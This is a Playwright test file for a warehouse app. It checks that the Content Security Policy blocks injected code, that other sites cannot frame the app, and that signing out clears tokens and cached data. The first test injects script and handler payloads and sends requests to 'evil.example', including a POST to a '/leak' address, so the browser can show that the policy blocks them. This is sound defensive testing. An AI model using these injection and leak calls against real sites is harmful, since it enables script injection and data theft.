/** The policy in a real browser (SEC-01), and what a tablet still holds after its officer signed out (SEC-02, SEC-19). */
import { expect, type Page, type Response, test } from '@playwright/test';
import { watchPolicy } from '../support/policy.ts';
import { fillFirst, SOURCE } from '../support/receiving.ts';
import { choose, installed, preparedFor, signIn, siteOfFile } from '../support/site.ts';

const site = siteOfFile();

test('an inline script, a handler, made-up code, styles, frames and strangers are blocked', {
  tag: ['@each-change', '@SEC-01'],
}, async ({ page }) => {
  const broken = await watchPolicy(page);
  await signIn(page, site, 'staff');
  const done = await page.evaluate(async () => {
    const ran: string[] = [];
    Object.assign(window, { ran });
    const add = (tag: string, more: Record<string, string>) => {
      const made = document.createElement(tag);
      for (const [name, value] of Object.entries(more)) {
        if (name === 'text') made.textContent = value;
        else made.setAttribute(name, value);
      }
      document.body.append(made);
      return made;
    };
    add('script', { text: 'window.ran.push("inline script")' });
    add('button', { onclick: 'window.ran.push("handler")' }).click();
    add('a', { href: 'javascript:window.ran.push("address")' }).click();
    add('script', { src: 'data:text/javascript,window.ran.push("data script")' });
    add('script', { src: 'https://evil.example/x.js' });
    add('iframe', { src: 'https://evil.example/' });
    add('img', { src: 'https://evil.example/leak.png' });
    add('base', { href: 'https://evil.example/' });
    add('style', { text: 'body { outline: 3px solid red }' });
    add('p', { style: 'outline: 3px solid red', text: 'x', id: 'styled' });
    // Through a timer: what is evaluated for the test itself is not held by the policy.
    Reflect.apply(setTimeout, window, ['window.ran.push("made-up code")', 0]);
    await fetch('https://evil.example/leak', { method: 'POST', mode: 'no-cors', body: 'x' }).then(
      () => ran.push('a request to a stranger'),
      () => undefined,
    );
    await new Promise((resolve) => setTimeout(resolve, 500));
    if (getComputedStyle(document.body).outlineStyle !== 'none') ran.push('style element');
    const styled = document.getElementById('styled');
    if (styled && getComputedStyle(styled).outlineStyle !== 'none') ran.push('style attribute');
    return ran;
  });
  expect(done).toEqual([]);
  // The browser tells them one by one, the last may still be on its way.
  for (const directive of [
    'script-src-elem',
    'script-src-attr',
    'style-src-elem',
    'style-src-attr',
    'img-src',
    'connect-src',
    'base-uri',
    'script-src',
  ])
    await expect.poll(() => broken().map((one) => one.split(' ')[1]), { message: directive }).toContain(directive);
});

test("the page's first script runs by its hash, from the server and from the worker's copy, and no file of it is asked for", {
  tag: ['@each-change', '@SEC-01'],
}, async ({ page }) => {
  const broken = await watchPolicy(page);
  const requested: string[] = [];
  page.on('request', (request) => requested.push(new URL(request.url()).pathname));
  const ranBy = async (opened: Promise<Response | null>) => {
    const response = await opened;
    const policy = (await response?.headerValue('content-security-policy')) ?? '';
    expect(policy).toMatch(/script-src 'self' 'sha256-[\w+/]{43}='; style-src 'self' 'sha256-[\w+/]{43}=';/);
    expect(policy).not.toContain('unsafe');
    expect(await page.evaluate(() => 'sayOnBarePage' in window)).toBe(true);
    return response?.fromServiceWorker();
  };
  expect(await ranBy(page.goto(`${site.url}/login`))).toBe(false);
  await installed(page);
  expect(await ranBy(page.reload())).toBe(true);
  // An old page, of a release before this one, still finds the file.
  expect((await page.request.get(`${site.url}/boot.js`)).status()).toBe(200);
  expect(requested).not.toContain('/boot.js');
  expect(broken()).toEqual([]);
});

test('no other site can show the app in a frame', { tag: ['@SEC-01'] }, async ({ page }) => {
  await page.route('**/outside.html', (route) =>
    route.fulfill({ contentType: 'text/html', body: `<iframe src="${site.url}/login"></iframe>` }),
  );
  await page.goto(`${site.url}/outside.html`);
  await page.waitForLoadState('networkidle');
  await expect(page.frameLocator('iframe').getByLabel('Email')).toHaveCount(0);
});

// The screens themselves: the walk of screens.spec.ts.
test('the app itself never breaks the policy by what it makes at run time: a dialog, the list of a picker, a message, a sheet in a worker', {
  tag: ['@SEC-01'],
}, async ({ page }) => {
  const broken = await watchPolicy(page);
  await signIn(page, site, 'admin');
  await page.goto(`${site.url}/warehouses/create`);
  await page.getByLabel('Warehouse type').selectOption({ label: 'Seller' });
  await choose(page, 'Warehouse owner', 'Mushin Hub');
  await page.getByRole('button', { name: 'Create', exact: true }).click();
  await expect(page.getByText('This owner already has an active warehouse.').first()).toBeVisible();
  await page.goto(`${site.url}/products`);
  await page.getByRole('button', { name: 'Export' }).click();
  const saved = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Export to Excel' }).click();
  expect((await saved).suggestedFilename()).toMatch(/\.xlsx$/);
  await expect(page.getByRole('dialog')).toHaveCount(0);
  await page.keyboard.press('Control+k');
  await page.getByRole('combobox', { name: 'Search everywhere' }).fill('milo');
  await expect(page.getByRole('option').first()).toBeVisible();
  expect(broken()).toEqual([]);
});

/** Everything that this browser keeps of the site, as one text: databases, caches, both storages, cookies. */
const everythingKept = (page: Page) =>
  page.evaluate(async () => {
    const kept: Record<string, unknown> = {
      local: { ...localStorage },
      session: { ...sessionStorage },
      cookie: document.cookie,
    };
    for (const { name = '' } of await indexedDB.databases()) {
      const db = await new Promise<IDBDatabase>((resolve, reject) => {
        const opening = indexedDB.open(name);
        opening.onsuccess = () => resolve(opening.result);
        opening.onerror = () => reject(opening.error);
      });
      for (const store of db.objectStoreNames) {
        kept[`${name}.${store}`] = await new Promise((resolve, reject) => {
          const reading = db.transaction(store).objectStore(store).getAll();
          reading.onsuccess = () => resolve(reading.result);
          reading.onerror = () => reject(reading.error);
        });
      }
      db.close();
    }
    const cached: string[] = [];
    for (const name of await caches.keys()) {
      const cache = await caches.open(name);
      for (const request of await cache.keys()) cached.push(request.url);
    }
    return { text: JSON.stringify(kept), cached, ops: (kept['outbox.ops'] as unknown[] | undefined) ?? [] };
  });

test('after signing out no answer, no profile and no token is left; what was not sent is, and the next person does not see it', {
  tag: ['@each-change', '@SEC-02', '@SEC-19', '@SYNC-40'],
}, async ({ page }) => {
  await signIn(page, site, 'officer1');
  await installed(page);
  await page.goto(`${site.url}/warehouses`);
  await expect(page.getByRole('table').locator('tbody tr').first()).toBeVisible();
  await page.goto(`${site.url}/inventory/shipment/in`);
  await preparedFor(page);
  site.cutApi(true);
  await fillFirst(page, SOURCE, ['To Hub', 'Mushin Hub']);
  await expect(page.getByRole('status', { name: 'Sync status' })).toHaveText(/waiting to send/);

  const before = await everythingKept(page);
  const token = /"token":"([\w-]{43})"/.exec(before.text)?.[1] ?? '';
  expect(token).not.toBe('');
  // Once, in the database that the worker reads; nowhere else.
  expect(before.text.split(token)).toHaveLength(2);
  expect(before.ops.length).toBeGreaterThan(0);
  expect(before.text).toContain('warehouse/read_all');
  expect(before.cached.filter((url) => url.includes('/api/'))).toEqual([]);
  expect(before.cached.length).toBeGreaterThan(5);

  await page.getByRole('button', { name: 'User menu' }).click();
  await page.getByRole('button', { name: 'Logout' }).click();
  await page.getByRole('button', { name: 'Sign out and keep' }).click();
  await expect(page).toHaveURL(/\/login/);
  await expect(page.getByText(/on this tablet ha(s|ve) not been sent/)).toBeVisible();
  const after = await everythingKept(page);
  expect(after.text).not.toContain(token);
  for (const gone of [
    'warehouse/read_all',
    'product/read_all',
    'officer1@example.test',
    'create_stock_in',
    '"verifier"',
  ])
    expect(after.text, gone).not.toContain(gone);
  // Whatever was tried meanwhile: the same work, whole, of the same author.
  const work = (ops: unknown[]) =>
    (ops as Record<string, unknown>[]).map(({ seq, key, user_id, type, payload }) => ({
      seq,
      key,
      user_id,
      type,
      payload,
    }));
  expect(work(before.ops).every((op) => op.key && op.user_id && op.payload)).toBe(true);
  expect(work(after.ops)).toEqual(work(before.ops));
  expect(after.cached.filter((url) => url.includes('/api/'))).toEqual([]);

  site.cutApi(false);
  await signIn(page, site, 'officer2');
  await page.goto(`${site.url}/sync`);
  await expect(page.getByText(/^\d+ changes? by [^ ]+ [^ ]+ waiting$/)).toBeVisible();
  await expect(page.getByText('Adéọlá')).toHaveCount(0);
});
